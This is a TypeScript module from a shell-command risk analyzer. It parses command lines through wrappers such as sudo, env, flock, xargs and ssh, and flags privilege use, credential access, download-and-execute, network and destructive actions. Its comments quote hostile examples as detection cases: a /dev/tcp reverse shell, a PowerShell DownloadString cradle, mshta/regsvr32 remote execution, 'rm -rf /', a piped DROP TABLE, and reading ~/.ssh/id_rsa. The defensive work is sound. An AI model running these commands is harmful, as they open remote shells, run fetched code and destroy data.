import { findOwn, runFind, runParallel, runParts, runXargs } from './command-batch.ts';
import {
  type Arg,
  baseName,
  checkOutputs,
  checkProgram,
  checkRedirect,
  downloadedFiles,
  NETWORK_DEVICE,
  systemPath,
  trimEnd,
} from './command-checks.ts';
import {
  type Context,
  deeper,
  type Extra,
  type Flow,
  MAX_NESTING,
  note,
  opaque,
  push,
  pusher,
  spend,
  TOO_DEEP,
} from './command-context.ts';
import { isCredentialPath } from './command-credentials.ts';
import { clientSql, inputDataLoss } from './command-databases.ts';
import { embeddedCode } from './command-embedded.ts';
import { ranFile, readsWritten, recordCopies, writtenProgram } from './command-files.ts';
import { codeFlow, printed, runCode, stdinOf } from './command-flow.ts';
import { inlineLanguage } from './command-inline.ts';
import { judgeSql } from './command-inline-judge.ts';
import { optionVariable, runsCode } from './command-interpreters.ts';
import { readOptions } from './command-options.ts';
import {
  DECODERS,
  DOWNLOADERS,
  INTERPRETERS,
  PACKAGE_INSTALLERS,
  PRIVILEGE,
  REMOTE_RUNNERS,
  REMOTE_URL,
  RESERVED,
  SHELLS,
  TAKES_NO_COMMAND,
  WEB_CLIENT,
  WIPERS,
  WRAPPERS,
} from './command-programs.ts';
import { runsProjectFiles } from './command-projects.ts';
import { type RemoteCommand, remoteCommand } from './command-remote.ts';
import { runnerCommand } from './command-runners.ts';
import { ranScriptFiles, scriptsInline } from './command-scripts.ts';
import { ASSIGNMENT, assign, forgetSet, loopVariable, positionalEnv } from './command-variables.ts';

/** The directory `git clone URL [dir]` makes, when the line is a clone. */
function cloneDirectory(texts: string[]): string | undefined {
  const read = readOptions(texts, {
    short: 'Cbocuj',
    long: [
      'branch',
      'origin',
      'config',
      'upload-pack',
      'jobs',
      'depth',
      'reference',
      'template',
      'filter',
      'separate-git-dir',
      'shallow-since',
      'shallow-exclude',
    ],
  });
  const [command, url, directory] = read.operands.map((i) => texts[i] as string);
  if (command !== 'clone' || url === undefined) return undefined;
  const name = directory ?? baseName(url.replace(/\/+$/, '')).replace(/\.git$/, '');
  return name === '' || name === '.' ? undefined : name.replace(/^\.\//, '');
}

// Programs worth reading where an unknown program's arguments could be a command it runs.
const COMMAND_HEADS = new Set([
  'rm',
  'dd',
  'find',
  'chmod',
  'chown',
  'truncate',
  'eval',
  'cat',
  'cp',
  'tee',
  'xargs',
  'kill',
]);

/**
 * Runs a command whose words are expanded: wrappers, then the program and what it does. Wrappers
 * are read in one pass over the words (`sudo timeout 5 nice rm …`), never by copying the rest.
 */
export function runArgs(all: Arg[], extra: Extra, ctx: Context): Flow {
  if (!spend(ctx, all.length)) return { hidden: true };
  const allTexts = all.map((a) => a.text);
  let at = 0;
  let nesting = ctx.nesting;
  for (let first = true; ; first = false) {
    while (
      at < all.length &&
      (RESERVED.has((all[at] as Arg).raw) || ASSIGNMENT.test(allTexts[at] as string))
    ) {
      commandVariable(all[at] as Arg, ctx);
      at += 1;
    }
    const head = all[at];
    if (head?.raw === 'for' || head?.raw === 'select') loopVariable(all.slice(at + 1), ctx);
    // Syntax prints nothing (`done > x.sh` writes what the loop's body prints, and only that).
    if (head === undefined || ['for', 'case', 'select', 'in', 'function'].includes(head.raw))
      return { text: '' };
    if (first) for (const { op, arg } of extra.redirects) checkRedirect(op, arg, pusher(ctx), ctx.budget);
    if (!head.known) return runUnknown(all.slice(at), extra, ctx);
    const program = programName(head.text);
    // `bash -i >& /dev/tcp/host/port 0>&1`: a shell on a connection runs what the other end sends.
    if (SHELLS.has(program) && extra.redirects.some(({ arg }) => NETWORK_DEVICE.test(systemPath(arg.text))))
      push(ctx, 'downloadExec', `${program} runs commands from a network connection`);
    const spec = Object.hasOwn(WRAPPERS, program) ? WRAPPERS[program] : undefined;
    if (program === 'su' || (program === 'runuser' && !allTexts.includes('-u', at + 1))) break;
    if (spec === undefined) break;
    const read = readOptions(allTexts, spec, true, at + 1);
    const start = (read.operands[0] ?? all.length) + (spec.operands ?? 0);
    if (spec.privilege || program === 'runuser') {
      note(ctx, program);
      push(ctx, 'privilege', `runs ${program}`);
    }
    if (program === 'setpriv') checkProgram(program, all.slice(at + 1), ctx.cwd, pusher(ctx), ctx.budget);
    // Its own options only: the command it runs is judged as it runs.
    if (program === 'nsenter')
      checkProgram(program, all.slice(at + 1, start), ctx.cwd, pusher(ctx), ctx.budget);
    // The wrapper's own files: what it writes (`strace -o x cmd`, `time -o x cmd`), and a
    // credential file it reads or writes (`ltrace -F ~/.ssh/id_rsa cmd`).
    const own = all.slice(at + 1, read.operands[0] ?? all.length);
    checkOutputs(program, own, pusher(ctx));
    const credential = own.find((a) => isCredentialPath(a.text, a.glob, ctx.budget));
    if (credential !== undefined) push(ctx, 'credentials', `${program} touches ${credential.text}`);
    const inline =
      program === 'env'
        ? (read.values.get('S') ?? read.values.get('split-string'))
        : program === 'flock'
          ? (read.values.get('c') ?? read.values.get('command') ?? flockCommandAfterFile(allTexts, start))
          : undefined;
    if (inline !== undefined) runCode({ text: inline }, ctx, program);
    if (start < all.length && !(program === 'flock' && inline !== undefined)) {
      nesting += 1;
      if (nesting > MAX_NESTING) {
        opaque(ctx, TOO_DEEP);
        return { hidden: true };
      }
      const inner = { ...ctx, nesting };
      if (program === 'xargs') return runXargs(all.slice(start), read.values, read.flags, extra, inner);
      // `watch` and `entr -s` run their command line through a shell.
      if (program === 'watch') return runCode(codeFlow(all.slice(start)), ctx, program);
      if (program === 'entr' && read.flags.has('s')) return runCode(codeFlow(all.slice(start)), ctx, program);
      at = start;
      continue;
    }
    if (spec.privilege || inline !== undefined) return {};
    break;
  }
  const args = all.slice(at);
  const head = args[0] as Arg;
  const program = programName(head.text);
  const rest = args.slice(1);
  const texts = rest.map((a) => a.text);

  if (program === 'su' || program === 'runuser') {
    note(ctx, program);
    push(ctx, 'privilege', `runs ${program}`);
    const read = readOptions(texts, {
      short: 'cgGsw',
      long: ['command', 'session-command', 'group', 'shell'],
    });
    const code = read.values.get('c') ?? read.values.get('command') ?? read.values.get('session-command');
    if (code !== undefined) runCode(codeFlow(rest.filter((a) => a.text === code)), ctx, program);
    else {
      // Words after the user go to the user's shell (`su root x.sh` runs x.sh).
      const operands = read.operands.filter((n) => texts[n] !== '-');
      const first = operands[1];
      if (first !== undefined)
        runsCode('sh', rest.slice(first), undefined, { redirects: [], groups: [], stdin: undefined }, ctx);
    }
    return {};
  }

  note(ctx, program);
  const flow: Flow = {};
  // `find`'s own words: the commands of its `-exec`s are judged when they run.
  checkProgram(program, program === 'find' ? findOwn(rest) : rest, ctx.cwd, pusher(ctx), ctx.budget);
  // SQL or a database's commands piped in: `echo 'DROP TABLE users' | psql`.
  const judgeInput = inputDataLoss(program, rest);
  const piped = judgeInput === undefined ? undefined : (stdinOf(extra.redirects, ctx) ?? extra.stdin)?.text;
  const lost = piped === undefined ? undefined : judgeInput?.(piped);
  if (lost !== undefined) push(ctx, 'destructive', lost);
  // SQL given to a database client or piped into it: `psql -c 'DROP TABLE users'`.
  const client = clientSql(program, rest, () => stdinOf(extra.redirects, ctx) ?? extra.stdin);
  for (const sql of client.sql) judgeSql(program, sql, ctx);
  if (client.input?.download !== undefined)
    push(ctx, 'downloadExec', `${program} runs SQL downloaded by ${client.input.download}`);
  if (program === 'cd' || program === 'pushd') {
    const target = rest.find((a) => !a.text.startsWith('-'));
    const relative = target?.known === true && ctx.cwd === undefined && !/^([/~]|\$HOME)/.test(target.text);
    ctx.dir =
      relative && !target.text.split('/').includes('..')
        ? `${ctx.dir === undefined ? '' : `${ctx.dir}/`}${target.text}`
        : undefined;
    ctx.cwd = target === undefined ? '~' : target.known ? cdTo(target.text, ctx.cwd) : undefined;
  }
  if (program === 'find') return runFind(rest, ctx);
  if (program === 'parallel') return runParallel(rest, extra, ctx);
  if (program === 'run-parts') runParts(texts, ctx);
  // `awk -f x.awk` with x.awk written earlier in the line: its text, inline.
  const own = scriptsInline(program, rest, ctx);
  ranScriptFiles(program, rest, ctx);
  const embedded = embeddedCode(program, own);
  if (embedded !== undefined) {
    const input = stdinOf(extra.redirects, ctx) ?? extra.stdin;
    const piped = input?.text === undefined ? undefined : embedded.stdin?.(input.text);
    for (const read of piped === undefined ? [embedded] : [embedded, piped]) {
      for (const code of read.code)
        runCode(typeof code === 'string' ? { text: code } : codeFlow(code), ctx, program);
      if (read.unreadable !== undefined) opaque(ctx, read.unreadable);
    }
    for (const code of embedded.piped ?? []) ctx.runScript(code, deeper(ctx), { hidden: true });
    if (embedded.readsStdin && input !== undefined)
      runCode(input.text === undefined && !input.hidden ? { hidden: true } : input, ctx, program);
  }
  const remote = remoteCommand(program, rest) ?? runnerCommand(program, rest);
  if (remote !== undefined) runRemote(program, remote, extra, ctx);
  forgetSet(program, rest, ctx);
  if (
    program === 'export' ||
    program === 'declare' ||
    program === 'local' ||
    program === 'readonly' ||
    program === 'typeset'
  )
    for (const arg of rest) {
      if (!ASSIGNMENT.test(arg.text)) continue;
      assign(arg, ctx);
      commandVariable(arg, ctx);
    }

  // Downloads: what it passes on, and the files it writes for a later command to run.
  const redirected = extra.redirects
    .filter((r) => r.op === '>' || r.op === '>>' || r.op === '>|')
    .map((r) => r.arg.text);
  // PowerShell's `New-Object Net.WebClient` downloads through its methods:
  // `iex (New-Object Net.WebClient).DownloadString('https://…')`.
  if (program === 'new-object' && WEB_CLIENT.test(texts.find((t) => !t.startsWith('-')) ?? '')) {
    push(ctx, 'network', `creates a ${texts.find((t) => !t.startsWith('-'))}`);
    flow.download = 'New-Object Net.WebClient';
  }
  // Windows programs that fetch a URL and run what they fetched: `mshta http://…`,
  // `msiexec /i http://….msi`, `regsvr32 /i:http://….sct scrobj.dll`.
  const fetched = REMOTE_RUNNERS.has(program) ? texts.find((t) => REMOTE_URL.test(t)) : undefined;
  if (fetched !== undefined) {
    push(ctx, 'network', `${program} fetches ${fetched.replace(/^\/i:/i, '')}`);
    push(ctx, 'downloadExec', `${program} runs what it fetches from ${fetched.replace(/^\/i:/i, '')}`);
  }
  // A package downloaded earlier in the line, installed: its install scripts run.
  const installed = PACKAGE_INSTALLERS.has(program)
    ? texts.find((t) => !t.startsWith('-') && ctx.downloaded.has(baseName(t)))
    : undefined;
  if (installed !== undefined)
    push(ctx, 'downloadExec', `${program} installs ${installed}, downloaded earlier in the same command`);
  if (DOWNLOADERS.has(program)) {
    for (const file of downloadedFiles(program, texts, redirected)) ctx.downloaded.add(file);
    flow.download = program;
  }
  const stdin = stdinOf(extra.redirects, ctx) ?? extra.stdin;
  if (INTERPRETERS.has(program) || program === 'busybox' || inlineLanguage(program) !== undefined)
    runsCode(program, rest, stdin, extra, ctx);
  else if (head.text !== program || writtenProgram(program, ctx))
    ranFile(head.text, ctx, undefined, () => positionalEnv(args, [...args.keys()], ctx));
  if (program === 'echo' || program === 'printf') Object.assign(flow, printed(program, rest));
  else if (PRINTS_NOTHING.has(program)) flow.text = '';
  else if (program === 'git') {
    Object.assign(flow, gitPaths(texts));
    const cloned = cloneDirectory(texts);
    if (cloned !== undefined)
      ctx.cloned.add(`${ctx.dir === undefined ? '' : `${ctx.dir}/`}${cloned}`.split('/')[0] as string);
  }
  recordCopies(program, rest, stdin, ctx);
  const passed = readsWritten(program, own, stdin, ctx);
  if (passed !== undefined) Object.assign(flow, passed);
  runsProjectFiles(program, rest, ctx);
  if (program === 'cat' && rest.some((a) => ctx.downloaded.has(baseName(a.text))))
    flow.download = 'a download';
  if (DECODERS.has(program)) flow.hidden = true;
  if (!TAKES_NO_COMMAND.has(program) && !known(program)) scanArguments(rest, extra, ctx);
  return flow;
}

// Builtins and programs that print nothing a later command could run, so that a loop or group
// built of them and of `echo`s prints known text.
const PRINTS_NOTHING = new Set([
  'read',
  'test',
  '[',
  '[[',
  'true',
  'false',
  ':',
  'sleep',
  'mkdir',
  'touch',
  'chmod',
  'chown',
  'cd',
  'unset',
  'shift',
  'break',
  'continue',
  'return',
  'exit',
  'wait',
  'let',
]);

/**
 * What `git rev-parse` prints of where a repository keeps its files, named as in a plain clone
 * (`$(git rev-parse --git-path hooks)/pre-commit` is a hook); other output is not known.
 */
function gitPaths(texts: string[]): Flow {
  if (texts[0] !== 'rev-parse' || texts.length < 2) return {};
  let text = '';
  for (let i = 1; i < texts.length; i++) {
    const word = texts[i] as string;
    if (/^--(absolute-)?git-(common-)?dir$/.test(word)) text += '.git\n';
    else if (word === '--git-path' && texts[i + 1] !== undefined) text += `.git/${texts[++i]}\n`;
    else return {};
  }
  return { text };
}

// Variables whose value is a command line a program runs through a shell
// (`GIT_SSH_COMMAND='…' git fetch`, `RSYNC_RSH`, `PAGER`, `EDITOR`).
const COMMAND_VARIABLE =
  /^(GIT_SSH_COMMAND|GIT_SSH|GIT_PROXY_COMMAND|GIT_EXTERNAL_DIFF|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_ASKPASS|SSH_ASKPASS|RSYNC_RSH|CVS_RSH|PAGER|MANPAGER|EDITOR|VISUAL|BROWSER|LESSOPEN|LESSCLOSE|PROMPT_COMMAND|RESTIC_PASSWORD_COMMAND|CRASHPAGER|BORG_RSH|SYSTEMD_PAGER|SYSTEMD_EDITOR|SUDO_EDITOR|FCEDIT|AUTOM4TE|AUTOCONF|AUTOHEADER|M4)=/;

const OPTION_VARIABLE = /^(NODE_OPTIONS|PERL5OPT|RUBYOPT|BASH_ENV|ENV|PYTHONSTARTUP)=/;

/**
 * An assignment before a command (or `export`ed) whose value is a command line run later, or
 * options and a start-up script for an interpreter (see `optionVariable`).
 */
export function commandVariable(arg: Arg, ctx: Context): void {
  const option = OPTION_VARIABLE.exec(arg.text);
  if (option !== null)
    optionVariable(option[1] as string, { ...arg, text: arg.text.slice(option[0].length) }, ctx);
  const match = COMMAND_VARIABLE.exec(arg.text);
  if (match === null) return;
  const value = arg.text.slice(match[0].length);
  if (value !== '') runCode(codeFlow([{ ...arg, text: value }]), ctx, match[1] as string);
}

/** What `ssh`, `docker exec`, `kubectl exec`… run elsewhere, judged as if it ran here. */
function runRemote(program: string, remote: RemoteCommand, extra: Extra, ctx: Context): void {
  for (const grant of remote.privilege) push(ctx, 'privilege', `${program}: ${grant}`);
  const input = stdinOf(extra.redirects, ctx) ?? extra.stdin;
  for (const line of remote.lines) {
    const flow = typeof line === 'string' ? { text: line } : codeFlow(line);
    // The remote command reads what is piped into ssh (`ssh host bash -s < <(…)`).
    if (flow.text !== undefined) ctx.runScript(flow.text, deeper(ctx), input);
    else runCode(flow, ctx, program);
  }
  if (remote.argv !== undefined) {
    const nesting = ctx.nesting + 1;
    if (nesting > MAX_NESTING) opaque(ctx, TOO_DEEP);
    else runArgs(remote.argv, { redirects: [], groups: [], stdin: input }, { ...deeper(ctx), nesting });
  }
  if (remote.readsStdin && input !== undefined)
    runCode(input.text === undefined && !input.hidden ? { hidden: true } : input, ctx, program);
}

/**
 * A program whose name comes from an expansion that cannot be known (`$X -rf /`, `$(… | base64
 * -d)`, `$c` after `read c`) could be any program with any arguments: every class applies.
 */
function runUnknown(args: Arg[], extra: Extra, ctx: Context): Flow {
  const head = args[0] as Arg;
  note(ctx, head.text);
  if (head.download !== undefined)
    push(ctx, 'downloadExec', `runs the output of ${head.download} as a command`);
  opaque(ctx, `runs ${head.raw}, a program named by an expansion that cannot be known before it runs`);
  scanArguments(args.slice(1), extra, ctx);
  return head.download ? { download: head.download } : {};
}

/**
 * An unknown program may run its arguments as a command (`setsid rm -rf /`, `strace -f …`):
 * the first argument that names a program worth reading is read as the start of a command.
 */
function scanArguments(args: Arg[], extra: Extra, ctx: Context): void {
  const at = args.findIndex((a) => a.known && isCommandHead(baseName(a.text).toLowerCase()));
  if (at < 0) return;
  runArgs(args.slice(at), { ...extra, redirects: [] }, { ...ctx, quiet: true });
}

function isCommandHead(name: string): boolean {
  return (
    COMMAND_HEADS.has(name) ||
    WIPERS.has(name) ||
    name.startsWith('mkfs') ||
    SHELLS.has(name) ||
    PRIVILEGE.has(name) ||
    DOWNLOADERS.has(name) ||
    (Object.hasOwn(WRAPPERS, name) && WRAPPERS[name]?.privilege === true)
  );
}

function known(program: string): boolean {
  return (
    Object.hasOwn(WRAPPERS, program) ||
    INTERPRETERS.has(program) ||
    inlineLanguage(program) !== undefined ||
    DOWNLOADERS.has(program) ||
    WIPERS.has(program) ||
    DECODERS.has(program) ||
    PRIVILEGE.has(program) ||
    COMMAND_HEADS.has(program)
  );
}

function programName(text: string): string {
  return baseName(text)
    .toLowerCase()
    .replace(/\.exe$/, '');
}

function cdTo(target: string, cwd: string | undefined): string | undefined {
  if (/^([/~]|\$HOME)/.test(target)) return target;
  if (target === '..' || cwd === undefined) return target === '..' ? '..' : undefined;
  return `${trimEnd(cwd, '/')}/${target}`;
}

/** `flock file -c 'line'`: GNU flock also reads its options after the lock file. */
function flockCommandAfterFile(texts: string[], start: number): string | undefined {
  const word = texts[start] ?? '';
  if (word.startsWith('--command=')) return word.slice('--command='.length);
  return word === '-c' || word === '--command' ? (texts[start + 1] ?? '') : undefined;
}
